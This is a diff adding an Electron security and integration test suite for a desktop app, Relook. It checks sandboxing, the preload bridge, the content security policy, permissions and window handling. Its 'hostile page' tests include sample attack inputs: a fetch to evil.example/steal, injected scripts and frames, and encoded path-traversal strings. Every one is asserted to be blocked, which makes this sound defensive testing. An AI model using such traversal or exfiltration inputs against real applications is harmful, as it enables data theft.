@@ -1,0 +1,380 @@
+/**
+ * The real desktop entry and the real preload, against a stand-in for Electron whose windows are pages of a real Chromium.
+ * Everything but Electron itself is real: the services, the inference process, the built window, its policy.
+ */
+import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join, resolve } from 'node:path'
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest'
+import { launchChromium } from '../../e2e-harness/chromium'
+import { createFakeElectron, type FakeElectron, type Machine, type MenuTemplate } from './fake-electron'
+import { createFakePortPair } from './fake-ports'
+import { toPage } from './fake-window'
+
+const image = resolve('test/fixtures/images/plain.jpg')
+let browser: Browser
+const running: FakeElectron[] = []
+const folders: string[] = []
+
+beforeAll(async () => {
+  if (!existsSync('dist/main/preload.cjs'))
+    throw new Error('Relook is not built: run `node scripts/build.mjs` first.')
+  browser = await launchChromium()
+})
+afterAll(() => browser.close())
+
+const argv = process.argv
+afterEach(async () => {
+  process.argv = argv
+  delete process.env['RELOOK_DATA']
+  for (const electron of running.splice(0)) {
+    if (electron.windows.length > 0) {
+      electron.app.quit()
+      await electron.app.exited
+    }
+    await electron.end()
+  }
+  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
+})
+
+const dataFolder = () => {
+  const folder = mkdtempSync(join(tmpdir(), 'relook-desktop-'))
+  folders.push(folder)
+  return folder
+}
+
+/** Starts the desktop app. */
+async function start(options: Partial<Machine> & { data?: string; files?: readonly string[] } = {}) {
+  const electron = createFakeElectron({ browser, ...options })
+  process.env['RELOOK_DATA'] = options.data ?? dataFolder()
+  process.argv = ['electron', '.', ...(options.files ?? [])]
+  vi.resetModules()
+  vi.doMock('electron', () => electron.module)
+  await import('../../../main/desktop')
+  running.push(electron)
+  return electron
+}
+
+/** Starts it and waits for its window's page. */
+async function startWindow(options: Parameters<typeof start>[0] = {}) {
+  const electron = await start(options)
+  const window = await vi.waitUntil(() => electron.windows[0], { timeout: 15_000 })
+  const page = await window.loaded
+  return { electron, window, page }
+}
+
+/** Asks the host from the page, over the bridge the preload gave it. */
+function ask(page: Page, name: string, input: object = {}): Promise<unknown> {
+  return page.evaluate(
+    ([n, i]) =>
+      new Promise((done) => {
+        const bridge = globalThis as unknown as {
+          relook: { open: () => { send: (m: unknown) => void; onMessage: (l: (m: unknown) => void) => void } }
+        }
+        const port = bridge.relook.open()
+        port.onMessage(done)
+        port.send({ t: 'ask', id: 1, name: n, input: i })
+      }),
+    [name, input] as const,
+  )
+}
+
+const flat = (menu: readonly MenuTemplate[]): MenuTemplate[] =>
+  menu.flatMap((entry) => [entry, ...flat(entry.submenu ?? [])])
+
+describe('the desktop window', () => {
+  test('shows the app, sandboxed and apart from Node', async () => {
+    const { electron, window, page } = await startWindow()
+    await page.getByTestId('sample-card').first().waitFor()
+    expect(window.options.webPreferences).toMatchObject({
+      contextIsolation: true,
+      sandbox: true,
+      nodeIntegration: false,
+      nodeIntegrationInSubFrames: false,
+      nodeIntegrationInWorker: false,
+      webSecurity: true,
+      webviewTag: false,
+    })
+    expect(electron.app.calls.map((c) => c.name)).toContain('enableSandbox')
+    expect(electron.seen.schemes).toEqual([
+      { scheme: 'relook', privileges: expect.objectContaining({ standard: true, secure: true }) as unknown },
+    ])
+    expect(window.calls).toContain('show')
+    expect(electron.seen.errors).toEqual([])
+  })
+
+  test('gives the page one frozen thing, and the host through it', async () => {
+    const { page } = await startWindow()
+    const bridge = await page.evaluate(() => {
+      const { relook } = globalThis as unknown as { relook: object }
+      return { keys: Object.keys(relook), frozen: Object.isFrozen(relook) }
+    })
+    expect(bridge).toEqual({ keys: ['open'], frozen: true })
+    expect(
+      await page.evaluate(() =>
+        ['require', 'process', 'module', 'ipcRenderer'].filter((n) => n in globalThis),
+      ),
+    ).toEqual([])
+    expect(await ask(page, 'about')).toMatchObject({ t: 'done', value: { shell: 'desktop', dialogs: true } })
+  })
+
+  test('refuses abilities that are not in the contract, and wrong input', async () => {
+    const { page } = await startWindow()
+    for (const name of ['constructor', '__proto__', 'nonsense'])
+      expect(await ask(page, name)).toMatchObject({ t: 'fail', failure: { code: 'denied' } })
+    expect(await ask(page, 'setProvider', { provider: 'magic' })).toMatchObject({
+      t: 'fail',
+      failure: { code: 'bad-input' },
+    })
+  })
+
+  test('runs no script that is not its own, and reaches no other place', async () => {
+    const { page } = await startWindow()
+    const violations = await page.evaluate(async () => {
+      const seen: string[] = []
+      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective))
+      const inline = document.createElement('script')
+      inline.textContent = 'globalThis.hacked = true'
+      const foreign = document.createElement('script')
+      foreign.src = 'https://evil.example/x.js'
+      document.body.append(inline, foreign)
+      const frame = document.createElement('iframe')
+      frame.src = 'https://evil.example/'
+      document.body.append(frame)
+      await fetch('https://evil.example/steal').catch(() => undefined)
+      await new Promise((done) => setTimeout(done, 200))
+      return { seen: [...new Set(seen)].sort(), hacked: 'hacked' in globalThis }
+    })
+    expect(violations).toEqual({ seen: ['connect-src', 'frame-src', 'script-src-elem'], hacked: false })
+  })
+
+  test('is isolated from other origins', async () => {
+    const { page } = await startWindow()
+    expect(await page.evaluate(() => [isSecureContext, crossOriginIsolated])).toEqual([true, true])
+  })
+
+  test('serves nothing from outside its folders', async () => {
+    const { electron } = await startWindow()
+    const handler = electron.seen.handlers.get('relook')
+    const paths = [
+      '../package.json',
+      '..%2fpackage.json',
+      '%2e%2e/package.json',
+      'assets/..%5c..%5cpackage.json',
+      '.stamp',
+    ]
+    for (const path of paths) {
+      const response = await handler?.(new Request(`relook://app/${path}`))
+      expect([path, response?.status]).toEqual([path, 404])
+    }
+    expect((await handler?.(new Request('relook://app.evil/index.html')))?.status).toBe(404)
+    expect((await handler?.(new Request('relook://app/')))?.status).toBe(200)
+  })
+})
+
+describe('a hostile page', () => {
+  test('opens no window; a link on the list goes to the browser of the person', async () => {
+    const { electron, page } = await startWindow()
+    await page.evaluate(() => {
+      window.open('https://evil.example/')
+      window.open('https://github.com/x/y')
+    })
+    await expect.poll(() => electron.seen.opened).toEqual(['https://github.com/x/y'])
+    await expect.poll(() => page.context().pages().length).toBe(1)
+  })
+
+  test('cannot take the window elsewhere', async () => {
+    const { electron, page } = await startWindow()
+    const before = page.url()
+    await page.evaluate(() => void (location.href = 'https://evil.example/'))
+    await page.waitForTimeout(200)
+    await page.evaluate((address) => void (location.href = address), toPage('relook://app.evil/'))
+    await page.waitForTimeout(200)
+    expect([page.url(), electron.seen.opened]).toEqual([before, []])
+    expect(await ask(page, 'about')).toMatchObject({ t: 'done' })
+  })
+
+  test('attaches no guest', async () => {
+    const { window } = await startWindow()
+    const preventDefault = vi.fn()
+    window.webContents.emit('will-attach-webview', { preventDefault }, {}, {})
+    window.webContents.emit('will-redirect', { url: 'https://evil.example/', preventDefault })
+    window.webContents.emit('will-frame-navigate', {
+      url: 'relook://app/',
+      isMainFrame: false,
+      preventDefault,
+    })
+    expect(preventDefault).toHaveBeenCalledTimes(3)
+  })
+
+  test('is refused every permission, asked or checked', async () => {
+    const { electron } = await startWindow()
+    const { request, check, device } = electron.seen.permissions
+    const names = [
+      'media',
+      'geolocation',
+      'notifications',
+      'clipboard-read',
+      'fileSystem',
+      'usb',
+      'openExternal',
+      'midi',
+    ]
+    const answers = names.map((name) => {
+      const answer = vi.fn()
+      request?.({}, name, answer, { requestingUrl: 'relook://app/' })
+      return [answer.mock.calls[0]?.[0], check?.({}, name, 'relook://app/', {})]
+    })
+    expect(answers).toEqual(names.map(() => [false, false]))
+    expect(check?.({}, 'clipboard-sanitized-write', 'https://evil.example/', {})).toBe(false)
+    expect(device?.({})).toBe(false)
+  })
+
+  test('gets no port when the message does not come from the top frame of the app itself', async () => {
+    const { electron } = await startWindow()
+    const top = { url: 'relook://app/', parent: null }
+    const frames = [
+      null,
+      { ...top, parent: top },
+      { ...top, url: 'https://evil.example/' },
+      { ...top, url: 'relook://app.evil/' },
+    ]
+    for (const senderFrame of frames) {
+      const { main, page } = createFakePortPair()
+      electron.ipcMain.emit('relook:port', { senderFrame, ports: [main] }, undefined)
+      const answered = vi.fn()
+      page.on('message', answered)
+      page.postMessage({ t: 'ask', id: 1, name: 'about', input: {} })
+      await new Promise((done) => setTimeout(done, 50))
+      expect([answered.mock.calls.length, page.closed()]).toEqual([0, true])
+    }
+  })
+})
+
+describe('the shell around the window', () => {
+  test('shows the table’s commands as native menu, and tells the window what was chosen', async () => {
+    const { electron, page } = await startWindow()
+    const own = page.evaluate(
+      () =>
+        new Promise((done) => {
+          const bridge = globalThis as unknown as {
+            relook: {
+              open: () => { send: (m: unknown) => void; onMessage: (l: (m: unknown) => void) => void }
+            }
+          }
+          const port = bridge.relook.open()
+          port.onMessage((m) => {
+            if ((m as { t: string }).t === 'item') done((m as { value: unknown }).value)
+          })
+          port.send({ t: 'ask', id: 1, name: 'shell', input: {} })
+        }),
+    )
+    const items = [{ id: 'test-command', title: 'Do it', menu: 'run', keys: 'Mod+Enter', enabled: true }]
+    // The window sets its own menu once it is up; ours has to come after it.
+    await page.getByTestId('sample-card').first().waitFor()
+    expect(await ask(page, 'setMenu', { items })).toMatchObject({ t: 'done' })
+    const entry = flat(electron.seen.menus.at(-1) ?? []).find((e) => e.id === 'test-command')
+    expect(entry).toMatchObject({ label: 'Do it', enabled: true, accelerator: 'CmdOrCtrl+Enter' })
+    entry?.click?.()
+    expect(await own).toEqual({ type: 'command', id: 'test-command' })
+  })
+
+  test('puts the window’s own command table in the menu', async () => {
+    const { electron, page } = await startWindow()
+    await page.getByTestId('sample-card').first().waitFor()
+    const ids = () => flat(electron.seen.menus.at(-1) ?? []).filter((e) => e.id !== undefined)
+    await expect.poll(() => ids().length).toBeGreaterThan(5)
+  })
+
+  test('opens the file of the command line as a project, and remembers it', async () => {
+    const data = dataFolder()
+    const { electron, page } = await startWindow({ data, files: [image] })
+    await page.getByTestId('canvas').waitFor()
+    await expect.poll(() => state(data).recent).toEqual([image])
+    expect(electron.app.calls).toContainEqual({ name: 'addRecentDocument', args: [image] })
+    expect(flat(electron.seen.menus.at(-1) ?? []).some((e) => e.label === 'plain.jpg')).toBe(true)
+  })
+
+  test('says so when a file cannot be opened', async () => {
+    const { electron } = await startWindow({ files: ['/nowhere/gone.png'] })
+    await expect
+      .poll(() => electron.seen.errors)
+      .toEqual([
+        {
+          title: 'Relook cannot open this file',
+          text: expect.stringContaining('/nowhere/gone.png') as unknown,
+        },
+      ])
+  })
+
+  test('opens what the native dialog gave; nothing when it was dismissed', async () => {
+    const { electron, page } = await startWindow()
+    expect(await ask(page, 'openImage')).toMatchObject({ t: 'done', value: null })
+    electron.seen.chosen = [image]
+    expect(await ask(page, 'openImage')).toMatchObject({
+      t: 'done',
+      value: { project: expect.any(String) as unknown },
+    })
+  })
+
+  test('is there once: a second start hands over its file and goes', async () => {
+    const second = await start({ first: false, files: [image] })
+    expect(await second.app.exited).toBe(0)
+    expect(second.windows).toEqual([])
+    const handed = second.app.calls.find((c) => c.name === 'requestSingleInstanceLock')?.args[0]
+    expect(handed).toEqual({ files: [image] })
+    const { electron, window, page } = await startWindow()
+    electron.app.app.emit('second-instance', {}, [], '', handed)
+    await page.getByTestId('canvas').waitFor()
+    expect(window.calls).toContain('focus')
+    expect(electron.windows).toHaveLength(1)
+  })
+
+  test('says so, and goes, when another process has the data folder', async () => {
+    const data = dataFolder()
+    await startWindow({ data })
+    const second = await start({ data })
+    expect(await second.app.exited).toBe(1)
+    expect(second.seen.errors[0]?.title).toBe('Relook cannot start')
+    expect(second.windows).toEqual([])
+  })
+
+  test('comes back where it stood', async () => {
+    const data = dataFolder()
+    const bounds = { x: 40, y: 60, width: 1000, height: 700 }
+    const first = await startWindow({ data })
+    first.window.place(bounds, true)
+    first.electron.app.quit()
+    await first.electron.app.exited
+    expect(state(data).window).toEqual({ bounds, maximised: true })
+    const second = await startWindow({ data })
+    expect(second.window.options).toMatchObject(bounds)
+    expect(second.window.isMaximized()).toBe(true)
+  })
+
+  test('comes back on a display that is there', async () => {
+    const data = dataFolder()
+    const first = await startWindow({ data })
+    first.window.place({ x: 5000, y: 60, width: 1000, height: 700 })
+    first.electron.app.quit()
+    await first.electron.app.exited
+    const { window } = await startWindow({ data })
+    expect([window.options.x, window.options.width]).toEqual([undefined, 1440])
+  })
+
+  test('frees the data folder before it goes', async () => {
+    const data = dataFolder()
+    const { electron, window } = await startWindow({ data })
+    expect(existsSync(join(data, 'lock'))).toBe(true)
+    window.close()
+    expect(await electron.app.exited).toBe(0)
+    expect(existsSync(join(data, 'lock'))).toBe(false)
+  })
+})
+
+function state(data: string) {
+  const file = join(data, 'desktop.json')
+  if (!existsSync(file)) return { recent: [], window: undefined }
+  return JSON.parse(readFileSync(file, 'utf8')) as { recent: string[]; window: unknown }
+}
